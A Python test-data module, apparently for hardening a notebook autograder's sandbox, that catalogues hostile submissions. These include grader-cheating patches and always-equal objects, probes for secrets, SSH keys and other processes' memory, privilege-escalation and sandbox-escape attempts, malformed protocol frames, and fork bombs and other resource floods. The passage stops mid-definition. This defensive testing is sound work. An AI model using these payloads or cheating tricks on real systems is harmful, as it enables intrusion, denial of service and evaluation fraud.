"""Cheating and hostile submissions of the made-up lesson, as data: each says what it honestly earned.

In most of them `tiny_double` is wrong and `tiny_apply` right, so 1 of 3 points is earned. A probe answers rightly only
if it got at something that it must not reach: full points would show the hole.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass, field
from typing import Any

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

WRONG = "def tiny_double(x):\n    return x\n"
APPLY = "def tiny_apply(f, x):\n    return f(x + x)\n"


@dataclass(frozen=True)
class Attack:
    """One hand-in. `flagged`: whether the instructor must be told (None: it may be); `tight`: graded with small limits.

    `change` edits the notebook, `file` the bytes of its file, after the answers are in.
    """

    name: str
    family: str
    double: str = WRONG
    apply: str = APPLY
    earns: float = 1.0
    flagged: bool | None = None
    status: str = "graded"
    tight: bool = False
    change: Callable[[NotebookNode], None] = field(default=lambda notebook: None)
    file: Callable[[bytes], bytes] = field(default=lambda content: content)


def _many(family: str, codes: dict[str, str], **same: Any) -> list[Attack]:
    """Each piece of code stands before the wrong answer, in one cell with it."""
    return [Attack(name, family, f"{code}\n\n{WRONG}", **same) for name, code in codes.items()]


def _answers(family: str, codes: dict[str, str], **same: Any) -> list[Attack]:
    """Each piece of code defines tiny_double itself."""
    return [Attack(name, family, code, **same) for name, code in codes.items()]


def _probes(family: str, codes: dict[str, str], **same: Any) -> list[Attack]:
    """Each piece of code sets `found` where it reaches what it must not; whatever it raises counts as not found."""
    made = []
    for name, code in codes.items():
        tried = "found = False\ntry:\n" + "".join(f"    {line}\n" for line in code.strip().splitlines())
        made.append(
            Attack(
                name,
                family,
                f"{tried}except Exception:\n    pass\n\ndef tiny_double(x):\n    return 2 * x if found else x\n",
                **same,
            )
        )
    return made


# ---- the checks run elsewhere: nothing that is done to Python or IPython here can pass one

KERNEL = {
    "showtraceback and success replaced": """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
InteractiveShell.showtraceback = lambda *a, **k: None
ExecutionResult.success = property(lambda self: True)""",
    "asserts dropped from later cells": """
import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())""",
    "later cells turned into pass": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    "displayhook shows the points": "get_ipython().displayhook(2.0)",
    "run_cell replaced": """
shell = get_ipython()
shell.run_cell = lambda *a, **k: None
type(shell).execute = lambda self, source: []""",
    "hook before every cell": "get_ipython().events.register('pre_run_cell', lambda *a: get_ipython().displayhook(2.0))",
    "custom exception handler": "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    "prints what a grader prints": """
print("All 2 checks passed.\\n2.0")
print('{"tiny_double": 2.0, "passed": true}')
display({"text/plain": "2.0"}, raw=True)""",
    "leaves by exit status 0": "import sys\nsys.exit(0)",
    "tampers from a thread": """
import threading, time
def tamper():
    while True:
        time.sleep(0.01)
        globals()['passed'] = True
threading.Thread(target=tamper, daemon=True).start()""",
    "grade called in the notebook": "try:\n    from autograder import grade\n    grade('tiny_double', globals())\nexcept Exception:\n    pass",
    "audit hook and atexit": """
import atexit, sys
atexit.register(lambda: print('2.0'))
sys.addaudithook(lambda *a: None)""",
}

PATCHING = {
    "torch.allclose says yes": """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.__eq__ = torch.Tensor.eq = lambda *a: torch.ones((), dtype=torch.bool)
torch.testing.assert_close = lambda *a, **k: None""",
    "numpy and math say yes": """
import math, numpy
numpy.allclose = numpy.array_equal = math.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None""",
    "builtins replaced": """
import builtins
builtins.abs = builtins.max = lambda *a, **k: 0
builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
builtins.AssertionError = builtins.Exception""",
    "modules replaced by mocks": """
import sys
from unittest.mock import MagicMock
for name in ('autograder', 'autograder.case', 'autograder.marking', 'course_lib', 'numpy', 'json', 'struct'):
    sys.modules[name] = MagicMock()""",
    "finder that serves mocks": """
import sys
from unittest.mock import MagicMock
class Finder:
    def find_spec(self, name, path=None, target=None):
        sys.modules[name] = MagicMock()
sys.meta_path.insert(0, Finder())""",
    "modules beside the notebook": """
from pathlib import Path
for name in ('torch.py', 'numpy.py', 'sandbox.py', 'sitecustomize.py', 'usercustomize.py', 'autograder.py'):
    Path(name).write_text('raise SystemExit(0)')
Path('.ipython/profile_default/startup').mkdir(parents=True, exist_ok=True)
Path('.ipython/profile_default/startup/0.py').write_text('passed = True')""",
    "caller's globals changed": """
import sys
frame = sys._getframe()
while frame:
    frame.f_globals['difference'] = frame.f_globals['encode'] = lambda *a, **k: ''
    frame = frame.f_back""",
    "seeds and clocks frozen": """
import random, time, torch
torch.manual_seed = random.seed = lambda *a: None
time.perf_counter = time.monotonic = time.time = lambda: 0.0""",
    "host found by gc and replaced": """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == 'Host':
        thing.answer = lambda frame, ask=None: frame
        type(thing)._call = lambda self, *a, **k: True""",
    "gradient machinery replaced": """
import torch
torch.autograd.grad = lambda *a, **k: [None]
torch.Tensor.backward = lambda *a, **k: None""",
    "rng state poisoned": """
import torch
torch.get_rng_state = torch.set_rng_state = lambda *a: (_ for _ in ()).throw(SystemExit)""",
}

OBJECTS = {
    "always equal": """
class Yes:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __float__(self): return 0.0
    def __array__(self, *a): return __import__('numpy').zeros((3, 2))
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    __hash__ = object.__hash__
def tiny_double(x):
    return Yes()""",
    "torch_function agrees": """
import torch
class Agree:
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None): return True
def tiny_double(x):
    return Agree()""",
    "tensor subclass that agrees": """
import torch
class Agree(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ('eq', 'allclose', 'all', 'equal'): return True
        return super().__torch_function__(func, types, args, kwargs or {})
def tiny_double(x):
    return x.as_subclass(Agree)""",
    "module whose attributes are all true": """
import torch
class Yes(torch.nn.Module):
    def __getattr__(self, name): return lambda *a, **k: True
    def forward(self, *a): return True
def tiny_double(x):
    return Yes()""",
    "float subclass that agrees": """
class Any(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
def tiny_double(x):
    return Any(1.0)""",
    "NaN everywhere": "def tiny_double(x):\n    return x * float('nan')",
    "infinite everywhere": "def tiny_double(x):\n    return x / 0",
    "empty tensor": "def tiny_double(x):\n    return x[:0]",
    "broadcastable": "def tiny_double(x):\n    return (2 * x).sum() / x.numel()",
    "True": "def tiny_double(x):\n    return True",
    "a string": "def tiny_double(x):\n    return 'correct'",
    "nested for ever": "def tiny_double(x):\n    a = []\n    a.append(a)\n    return a",
    "a view of a terabyte": "import torch\ndef tiny_double(x):\n    return torch.zeros(1).expand(10**12)",
    "exotic tensors": "def tiny_double(x):\n    return x.to_sparse()",
    "property bomb": """
class Bomb:
    def __getattr__(self, name): raise SystemExit(0)
    __class__ = property(lambda self: (_ for _ in ()).throw(KeyboardInterrupt))
def tiny_double(x):
    return Bomb()""",
    "exception whose text raises": """
class Loud(Exception):
    def __str__(self): raise Loud
def tiny_double(x):
    raise Loud""",
    "writes the truth into its input": "def tiny_double(x):\n    x.mul_(0)\n    return x",
    "detects grading": """
import os
def tiny_double(x):
    return 2 * x if 'NBGRADER_EXECUTION' not in os.environ else x""",
    "answers by the number of calls": """
calls = []
def tiny_double(x):
    calls.append(x)
    return calls[0] + x * 0""",
}

# ---- the truth must be nowhere to be found

READING = {
    "autograder imported": "import autograder.exercise\nfound = True",
    "lessons imported": "import importlib\nfound = bool(importlib.import_module('autograder.lessons'))",
    "oracle by gc": """
import gc
names = {getattr(thing, '__name__', '') for thing in gc.get_objects() if callable(thing)}
found = bool(names & {'tiny_double.oracle', 'expect', 'run_checks', 'mark'})""",
    "oracle in the frames above": """
import sys
frame = sys._getframe()
while frame:
    found = found or any(name in frame.f_locals for name in ('exercise', 'case', 'oracle', 'truth', 'master'))
    frame = frame.f_back""",
    "solutions and autograder by path": """
import os
hidden = ('solutions', 'gradebook.db', 'submitted', 'lessons', 'oracle', 'marking.py', 'exercise.py', '.git')
for top, folders, files in os.walk({root!r}):
    if '.venv' not in top and 'course_lib' not in top:
        found = found or any(name in hidden or name.endswith('.ipynb') for name in folders + files)
    folders[:] = [name for name in folders if name not in ('.venv', 'course_lib')]""",
    "any course file outside": """
import os
from pathlib import Path
for place in ('/root', '/home', '/etc', '/var', '/opt', '/srv', '/mnt', '/work', '/tmp', '/run', '/dev/shm'):
    for top, folders, files in os.walk(place):
        found = found or any(name in ('gradebook.db', 'shadow', 'id_rsa', 'id_ed25519', 'known_hosts') for name in files)""",
    "secrets in the environment": """
import os
found = any(word in name for name in os.environ for word in ('TOKEN', 'SECRET', 'KEY', 'PASS', 'CANARY'))""",
    "environment of other processes": """
from pathlib import Path
for path in Path('/proc').glob('[0-9]*/environ'):
    found = found or b'CANARY' in path.read_bytes()""",
    "memory of other processes": """
import os
from pathlib import Path
others = [path.name for path in Path('/proc').glob('[0-9]*') if int(path.name) not in (1, os.getpid())]
found = bool(others) and bool(open(f'/proc/{others[0]}/mem', 'rb').read(1))""",
    "home of the grader": "from pathlib import Path\nfound = any(Path(p).exists() for p in ({home!r} + '/.ssh', {home!r} + '/.bashrc'))",
    "open descriptors": """
import os
for fd in range(3, 200):
    try:
        target = os.readlink(f'/proc/self/fd/{fd}')
    except OSError:
        continue
    found = found or not target.startswith(('socket:', 'pipe:', 'anon_inode', '/dev/', '/proc', '/usr', '/tmp'))""",
    "files through the working folder's parents": """
import os
found = any(os.path.exists('../' * n + name) for n in range(8) for name in ('gradebook.db', 'solutions', 'submitted'))""",
    "the template's control socket": """
import os, socket, stat
sockets = [fd for fd in range(256) if os.path.exists(f'/proc/self/fd/{fd}') and stat.S_ISSOCK(os.fstat(fd).st_mode)]
found = len(sockets) > 1""",
    "kernel memory and logs": """
import os
for path in ('/dev/mem', '/dev/kmem', '/proc/kcore', '/proc/kmsg', '/dev/kmsg', '/dev/sda', '/dev/vda', '/dev/fuse'):
    try:
        os.close(os.open(path, os.O_RDONLY))
        found = True
    except OSError:
        pass""",
    "source of the hidden cell": """
found = any('HIDDEN' in str(text) for text in [*get_ipython().user_ns.get('In', []), *get_ipython().user_ns.values()])""",
}

FILES = {
    "grade book written": """
import sqlite3
for path in ({root!r} + '/gradebook.db', '../../../gradebook.db', '/gradebook.db'):
    try:
        sqlite3.connect(path).execute("update grade set manual_score = 99")
        found = True
    except sqlite3.Error:
        pass""",
    "autograded notebooks written": """
from pathlib import Path
folder = Path({root!r}, 'autograded', 'ada', '99-tiny')
folder.mkdir(parents=True)
found = True""",
    "packages written": """
import torch
from pathlib import Path
Path(torch.__file__).write_text('raise SystemExit')
found = True""",
    "course_lib written": """
import course_lib
from pathlib import Path
Path(course_lib.__file__).with_name('evil.py').write_text('1')
found = True""",
    "sandbox package written": "from pathlib import Path\nPath('/opt/grading/sandbox/evil.py').write_text('1')\nfound = True",
    "root and usr written": """
import os
for place in ('/', '/usr/bin', '/etc', '/opt', '/proc/sys/kernel', '/sys'):
    try:
        open(os.path.join(place, 'evil'), 'w').close()
        found = True
    except OSError:
        pass""",
    "core pattern and sysctls": "open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/sh')\nfound = True",
    "read-only mounts made writable": """
import ctypes
found = ctypes.CDLL(None).mount(None, b'/usr', None, 0x20 | 0x1000, None) == 0""",
    "startup files for the next": """
import os
from pathlib import Path
mark = [Path(p) for p in ('/tmp/evil.pth', '/tmp/home/.ipython/evil', '/dev/shm/evil', '/tmp/matplotlib/evil')]
found = any(path.exists() for path in mark)
for path in mark:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text('evil')""",
}

NETWORK = {
    "TCP to the world": "import socket\nsocket.create_connection(('1.1.1.1', 443), 0.3)\nfound = True",
    "TCP to the host": "import socket\nsocket.create_connection(('127.0.0.1', {port}), 0.3)\nfound = True",
    "UDP": "import socket\nsocket.socket(2, 2).sendto(b'x', ('8.8.8.8', 53))\nfound = True",
    "DNS": "import socket\nfound = bool(socket.gethostbyname('pypi.org'))",
    "IPv6": "import socket\nsocket.create_connection(('2606:4700:4700::1111', 443), 0.3)\nfound = True",
    "abstract socket of the host": "import socket\ns = socket.socket(1)\ns.connect('\\0{abstract}')\nfound = True",
    "vsock to the hypervisor": "import socket\nsocket.socket(40, 1)\nfound = True",
    "raw and packet sockets": "import socket\nsocket.socket(17, 3)\nfound = True",
    "interfaces": "import socket\nfound = any(name != 'lo' for _, name in socket.if_nameindex())",
    "curl by shell": "import subprocess\nfound = subprocess.run('curl -m 1 -s http://1.1.1.1', shell=True).returncode == 0",
}

PRIVILEGE = {
    "user namespace": "import ctypes\nfound = ctypes.CDLL(None).unshare(0x10000000) == 0",
    "clone with a user namespace": "import subprocess\nfound = subprocess.run(['unshare', '-Ur', 'true']).returncode == 0",
    "mount": "import ctypes\nfound = ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0",
    "become root": "import os\nos.setuid(0)\nfound = True",
    "capabilities": """
from pathlib import Path
lines = dict(line.split(':', 1) for line in Path('/proc/self/status').read_text().splitlines())
found = any(int(lines[name], 16) for name in ('CapEff', 'CapPrm', 'CapBnd')) or lines['NoNewPrivs'].strip() != '1'""",
    "set-user-id programs": """
import subprocess
for line in (['su', '-c', 'true'], ['sudo', '-n', 'true'], ['mount', '-t', 'tmpfs', 'none', '/tmp']):
    try:
        found = found or subprocess.run(line, timeout=1, stdin=-3).returncode == 0
    except (OSError, subprocess.TimeoutExpired):
        pass""",
    "trace process 1": "import ctypes\nfound = ctypes.CDLL(None).ptrace(16, 1, 0, 0) == 0",
    "signal others": """
import os, signal
for pid in [os.getppid(), *range(2, 400)]:
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
            found = True
        except OSError:
            pass""",
    "bpf, perf, keyrings, io_uring, memfd": """
import ctypes, platform
calls = {'x86_64': (321, 298, 250, 425, 319, 323), 'aarch64': (280, 241, 219, 425, 279, 282)}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
for number in calls:
    libc.syscall(number, 0, 0, 0, 0, 0)
    found = found or ctypes.get_errno() != 1""",
    "limits raised": """
import resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        found = True
    except (ValueError, OSError):
        pass""",
    "chroot and pivot_root": "import os\nos.chroot('/tmp')\nfound = True",
    "system V shared memory": "import ctypes\nfound = ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) != -1",
}

# ---- the socket spoken directly: every reply a hostile one

SPEAK = """
import gc, json, struct
guest = next(thing for thing in gc.get_objects() if type(thing).__name__ == 'Guest')
sock, honest = guest.connection, guest.host.answer
def frame(kind, payload): return struct.pack('>cQ', kind, len(payload)) + payload
def message(tree, blob=b''):
    header = tree if isinstance(tree, bytes) else json.dumps(tree).encode()
    return struct.pack('>I', len(header)) + header + blob
def value(tree): return {'d': {'value': tree}}
"""


def _replies(codes: dict[str, str], **same: Any) -> list[Attack]:
    """Each expression is the reply to every call of tiny_double, whatever was asked; the others are answered."""
    tail = (
        "guest.host.answer = lambda f, ask=None: forged(f, ask) if b'\"tiny_double\"' in f[:4000] else honest(f, ask)"
    )
    made = {name: f"{SPEAK}\ndef forged(f, ask):\n    return {code}\n{tail}\n" for name, code in codes.items()}
    return [Attack(name, "protocol", f"{code}\n\n{WRONG}", **same) for name, code in made.items()]


REPLIES = {
    "nothing": "b''",
    "noise": "bytes(range(256)) * 10",
    "the request itself": "f",
    "a list for a reply": "message({'l': []})",
    "an unknown kind": "message(value({'x': 1}))",
    "two kinds at once": "message(value({'i': '1', 'f': '1'}))",
    "nested without end": "message(b'[' * 100_000)",
    "lists nested deeply": "message(b'{\"l\":[' * 5000 + b']}' * 5000)",
    "a header of 32 MB": "message(b'[' + b'{},' * (8 * 2**20) + b'{}]')",
    "a number of a million digits": "message(value({'i': '9' * 10**6}))",
    "numbers that are none": "message(value({'l': [{'f': 'nan'}, {'f': '0x1p99999'}, {'f': 'inf'}]}))",
    "a shape without data": "message(value({'t': ['float64', [3, 2]]}))",
    "a shape of exabytes": "message(value({'t': ['float64', [2**40, 2**40]]}))",
    "a shape of huge numbers": "message(b'{\"d\":{\"value\":{\"t\":[\"float64\",[' + b'9' * 4000 + b',9' * 9 + b']]}}}')",
    "a million axes": "message(value({'t': ['uint8', [1] * 300_000]}), b'1')",
    "a negative shape": "message(value({'t': ['uint8', [-1, -8]]}), b'12345678')",
    "a dtype of the attacker's": "message(value({'t': ['qint8', [1]]}), b'1')",
    "data left over": "message(value(None), b'12345678')",
    "a huge tensor": "message(value({'t': ['uint8', [60 * 2**20]]}), bytes(60 * 2**20))",
    "a frame of 200 MB": "message(value({'t': ['uint8', [200 * 2**20]]}), bytes(200 * 2**20))",
    "code to run": "message(value({'s': ['import os\\nos._exit(9)', 'f']}))",
    "a callback of the checker's": "message(value({'c': 0}))",
    "an object that is not there": "message(value({'h': [10**9, 'module', 'passed']}))",
    "an error made of numbers": "message({'d': {'error': {'d': {'type': {'i': '1'}, 'message': {'l': []}}}}})",
    "a long error": "message({'d': {'error': {'d': {'type': 'E', 'message': 'x' * 10**6}}}})",
    "terminal commands in an error": "message({'d': {'error': {'d': {'type': 'E', 'message': '\\x1b]0;owned\\x07\\x1b[2J'}}}})",
    "half a character": 'message(b\'{"d":{"error":{"d":{"type":"E","message":"\\\\ud800"}}}}\')',
    "floods of callbacks": "[ask(message({'d': {'callback': {'i': '0'}, 'args': {'l': []}, 'kwargs': {'d': {}}}})) for _ in iter(int, 1)]",
    "callbacks that are none": "ask(message({'l': []}))",
    "callbacks by a negative number": "ask(message({'d': {'callback': {'i': '-1'}, 'args': {'u': []}, 'kwargs': {'d': {}}}}))",
    "a callback with a huge argument": "ask(message({'d': {'callback': {'i': '0'}, 'args': {'u': [{'t': ['uint8', [2**25]]}]}, 'kwargs': {'d': {}}}}, bytes(2**25)))",
}

DRIP = """
def forged(f, ask):
    import time
    sock.sendall(struct.pack('>cQ', b'R', 2**20))
    while True:
        sock.sendall(b' ')
        time.sleep(0.0002)
guest.host.answer = lambda f, ask=None: forged(f, ask) if b'"tiny_double"' in f[:4000] else honest(f, ask)
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
"""

SPOKEN = {
    "replies sent ahead": f"{SPEAK}\nfor _ in range(50):\n    sock.sendall(frame(b'R', message(value(True))))",
    "a callback out of turn": f"{SPEAK}\nsock.sendall(frame(b'C', message({{'l': []}})))",
    "a frame of an unknown kind": f"{SPEAK}\nsock.sendall(frame(b'X', b''))",
    "a frame of 16 exabytes": f"{SPEAK}\nsock.sendall(struct.pack('>cQ', b'R', 2**64 - 1))",
    "a frame byte by byte": SPEAK + DRIP,
    "a cell's outputs that are no JSON": f"{SPEAK}\nsock.sendall(frame(b'R', message(value('{{'))))",
    "a cell's outputs that are a number": f"{SPEAK}\nsock.sendall(frame(b'R', message(value({{'i': '1'}}))))",
    "a cell's outputs nested deeply": f"{SPEAK}\nsock.sendall(frame(b'R', message(value('[' * 10**6))))",
    "outputs of every wrong kind": f"""{SPEAK}
wrong = [1, None, 'x', [], {{}}, {{'output_type': 'stream'}}, {{'output_type': 'stream', 'name': [], 'text': {{}}}},
         {{'output_type': 'error', 'ename': 1, 'evalue': [], 'traceback': 5}}, {{'output_type': 'x', 'data': 1}},
         {{'output_type': 'display_data', 'data': [], 'metadata': 3}}, {{'output_type': 'execute_result', 'data': {{'a': 1}}}},
         {{'output_type': 'display_data', 'data': {{'image/png': {{}}, 'text/html': 5}}, 'metadata': {{'image/png': 7}}}}]
guest.shell.execute = lambda source: wrong""",
    "the socket closed": f"{SPEAK}\nsock.close()",
    "the socket shut down": f"{SPEAK}\nimport socket\nsock.shutdown(socket.SHUT_RDWR)",
    "nobody reads any more": f"{SPEAK}\nimport time\nguest.serve = lambda: time.sleep(60)\ntime.sleep(60)",
    "descriptors sent along": f"""{SPEAK}
import os, socket
for _ in range(50):
    socket.send_fds(sock, [b''], [os.open('/dev/null', os.O_RDONLY)])""",
}

# ---- functions that agree with each other by arrangement, to be followed through

CONSPIRACY = {
    "an earlier function that echoes a later one": (
        "held = []\ndef tiny_double(x):\n    return held.pop() - 1 if held else 2 * x",
        "import torch\ndef tiny_apply(f, x):\n    held[:] = [torch.zeros_like(x), torch.zeros_like(x)][:1]\n    return held[0]",
        2.0,
    ),
    "an earlier function that is nothing": (
        "def tiny_double(x):\n    return x * float('nan')",
        "def tiny_apply(f, x):\n    return x * float('nan')",
        0.0,
    ),
    "an earlier function that is constant": (
        "def tiny_double(x):\n    return x * 0",
        "def tiny_apply(f, x):\n    return x * 0 + 1",
        0.0,
    ),
    "an echo through a file": (
        "from pathlib import Path\nimport torch\ndef tiny_double(x):\n"
        "    p = Path('/tmp/held')\n    if p.exists():\n        p.unlink()\n        return x * x - 1\n    return 2 * x",
        "def tiny_apply(f, x):\n    Path('/tmp/held').touch()\n    return x * x",
        2.0,
    ),
}

# ---- the notebook and its file


def cell(notebook: NotebookNode, identity: str) -> NotebookNode:
    """The cell of this id."""
    return next(one for one in notebook.cells if one["id"] == identity)


def _set(identity: str, **metadata: Any) -> Callable[[NotebookNode], None]:
    return lambda notebook: cell(notebook, identity).metadata.nbgrader.update(metadata)


def _tag(*tags: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        for one in notebook.cells:
            one.metadata["tags"] = list(tags)

    return change


def _source(identity: str, source: str) -> Callable[[NotebookNode], None]:
    return lambda notebook: cell(notebook, identity).update(source=source)


def _as_markdown(identity: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        one = cell(notebook, identity)
        one.update(cell_type="markdown")
        del one["outputs"], one["execution_count"]

    return change


def _without(*identities: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells = [one for one in notebook.cells if one["id"] not in identities]

    return change


def _twice(notebook: NotebookNode) -> None:
    twin = deepcopy(cell(notebook, "tiny_double-graded"))
    twin.update(id="twin", source="2.0")
    notebook.cells.append(twin)


def _unknown(notebook: NotebookNode) -> None:
    extra = new_code_cell("2.0", metadata=deepcopy(cell(notebook, "tiny_double-graded").metadata))
    extra.metadata.nbgrader.update(grade_id="bonus" * 1000, points=1000)
    notebook.cells.append(extra)


def _reverse(notebook: NotebookNode) -> None:
    notebook.cells.reverse()


def _kernel(notebook: NotebookNode) -> None:
    notebook.metadata = {"kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"}}


def _many_cells(count: int) -> Callable[[bytes], bytes]:
    def edit(content: bytes) -> bytes:
        held = json.loads(content)
        held["cells"] += [{"cell_type": "code", "metadata": {}, "source": "1", "outputs": []}] * count
        return json.dumps(held).encode()

    return edit


def _edit(**fields: Any) -> Callable[[bytes], bytes]:
    return lambda content: json.dumps({**json.loads(content), **fields}).encode()


def _everywhere(**fields: Any) -> Callable[[bytes], bytes]:
    """Set these fields in every cell."""

    def edit(content: bytes) -> bytes:
        held = json.loads(content)
        held["cells"] = [{**one, **fields} for one in held["cells"]]
        return json.dumps(held).encode()

    return edit


def _lone_surrogates(notebook: NotebookNode) -> None:
    cell(notebook, "title").source = "HALF"
    notebook.cells.append(new_markdown_cell("HALF"))
    notebook.cells.append(new_code_cell("print('HALF')"))


NOTEBOOK = [
    Attack("all cells tagged skip-execution", "notebook", change=_tag("skip-execution"), flagged=True),
    Attack("all cells tagged raises-exception", "notebook", change=_tag("raises-exception"), flagged=True),
    Attack("points raised", "notebook", change=_set("tiny_double-graded", points=200), flagged=True),
    Attack("points not a number", "notebook", change=_set("tiny_double-graded", points="2e9"), flagged=True),
    Attack("unlocked", "notebook", change=_set("tiny_double-graded", locked=False), flagged=True),
    Attack("graded cell made a solution", "notebook", change=_set("tiny_double-graded", solution=True), flagged=True),
    Attack("graded cell not graded", "notebook", change=_set("tiny_double-graded", grade=False), flagged=True),
    Attack("schema of the future", "notebook", change=_set("tiny_double-graded", schema_version=99), flagged=True),
    Attack("schema that is a list", "notebook", change=_set("tiny_double-graded", schema_version=[[]]), flagged=True),
    Attack("locked source replaced", "notebook", change=_source("tiny_double-graded", "2.0"), flagged=True),
    Attack("check replaced", "notebook", change=_source("tiny_double-checks", "pass"), flagged=True),
    Attack("graded cell made text", "notebook", change=_as_markdown("tiny_double-graded"), flagged=True),
    Attack("graded cell deleted", "notebook", change=_without("tiny_double-graded"), flagged=True),
    Attack("answer deleted", "notebook", change=_without("tiny_double"), flagged=True),
    Attack("everything deleted", "notebook", change=lambda n: n.update(cells=[]), earns=0, flagged=True),
    Attack("graded cell twice", "notebook", change=_twice, flagged=True),
    Attack("graded cell of one's own", "notebook", change=_unknown, flagged=True),
    Attack("cells in reverse", "notebook", change=_reverse),
    Attack("another kernel", "notebook", change=_kernel),
    Attack("half characters", "notebook", change=_lone_surrogates, file=lambda c: c.replace(b"HALF", b"\\ud800")),
    Attack("ids that are markup", "notebook", file=_everywhere(id="<script>alert(1)</script>")),
    Attack(
        "metadata that is a list", "notebook", file=_everywhere(metadata=[]), earns=0, status="failed", flagged=True
    ),
    Attack("attachments of every kind", "notebook", file=_everywhere(attachments={"a": [1], "b": {"text/html": "x"}})),
    Attack("10,000 cells", "notebook", file=_many_cells(10_000), earns=0, status="failed", flagged=True),
    Attack("1,000 cells of one's own", "notebook", file=_many_cells(1_000)),
    Attack("25 MB", "notebook", file=lambda c: c + b" " * (25 * 2**20), earns=0, status="failed", flagged=True),
    Attack(
        "objects by the million",
        "notebook",
        file=lambda content: b'{"nbformat": 4, "cells": [' + b"{}," * 1_000_000 + b"{}]}",
        earns=0,
        status="failed",
        flagged=True,
    ),
    Attack("outputs by the million", "notebook", file=_everywhere(outputs=[{}] * 50_000)),
    Attack("deep metadata", "notebook", file=_edit(metadata=json.loads('{"a":' * 800 + "1" + "}" * 800))),
    Attack("nbformat 99", "notebook", file=_edit(nbformat=99), earns=0, status="failed", flagged=True),
    Attack("nbformat that is a list", "notebook", file=_edit(nbformat=[]), earns=0, status="failed", flagged=True),
    Attack("not JSON", "notebook", file=lambda content: content[:-9], earns=0, status="failed", flagged=True),
    Attack("JSON nested deeply", "notebook", file=lambda c: b"[" * 10**6, earns=0, status="failed", flagged=True),
]

# ---- resources, against small limits

RESOURCES = {
    "fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass""",
    "thread bomb": """
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()""",
    "memory of one process": "held = bytearray(2**34)",
    "memory bit by bit": "held = []\nwhile True:\n    held.append(bytearray(2**22))",
    "memory of many children": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        held = bytearray(b'x') * (150 * 2**20)
        time.sleep(60)
time.sleep(60)""",
    "memory files": """
import os
files = [os.memfd_create(str(n)) for n in range(200)]
while True:
    for file in files:
        os.write(file, bytes(2**20))""",
    "shared memory filled": """
n = 0
while True:
    n += 1
    open(f'/dev/shm/{n}', 'wb').write(bytes(2**19))""",
    "disk filled": """
n = 0
while True:
    n += 1
    open(f'/tmp/{n}', 'wb').write(bytes(2**19))""",
    "files by the million": """
n = 0
while True:
    n += 1
    open(f'/tmp/{n}', 'wb').close()""",
    "one big file": "open('/tmp/big', 'wb').truncate(2**40)",
    "descriptors leaked": "files = []\nwhile True:\n    files.append(open('/dev/null'))",
    "memory in sockets": """
import socket
pairs = []
while True:
    a, b = socket.socketpair()
    a.setblocking(False)
    pairs.append((a, b))
    try:
        while True:
            a.send(bytes(2**16))
    except BlockingIOError:
        pass""",
    "processor time of children": """
import os, time
for _ in range(6):
    if os.fork() == 0:
        while True:
            pass
time.sleep(60)""",
    "endless loop": "while True:\n    pass",
    "endless loop that takes no interrupt": """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass""",
    "endless loop in C": "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
    "endless import": "%%writefile endless.py\nwhile True:\n    pass",
    "sleeps for ever": "import time\ntime.sleep(10**6)",
    "waits for input": "input('password: ')",
    "stops itself": "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)",
    "kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos._exit(1)",
    "crashes": "import ctypes\nctypes.string_at(0)",
    "recursion without end": "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()",
    "flood on stdout": "while True:\n    print('x' * 10**5)",
    "flood on stderr": "import sys\nwhile True:\n    print('x' * 10**5, file=sys.stderr)",
    "flood on the descriptor": "import os\nwhile True:\n    os.write(1, b'x' * 10**5)",
    "flood of displays": "while True:\n    display({'text/html': '<b>' * 10**4}, raw=True)",
    "flood by an error": "raise ValueError('x' * 10**8)",
    "flood of small outputs": "from IPython.display import display\nfor n in range(10**5):\n    display(n)",
    "daemon that outlives the cell": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(60)
    os._exit(0)""",
    "daemon by the shell": "!nohup setsid sleep 60 >/dev/null 2>&1 &",
    "a later death": "import os, threading\nthreading.Timer(0.3, os._exit, (0,)).start()",
    "interpreter broken": "import sys\nsys.modules.clear()",
    "garbage collector off and cycles": """
import gc
gc.disable()
while True:
    a = [bytes(10**5)]
    a.append(a)""",
}

SLOW = {
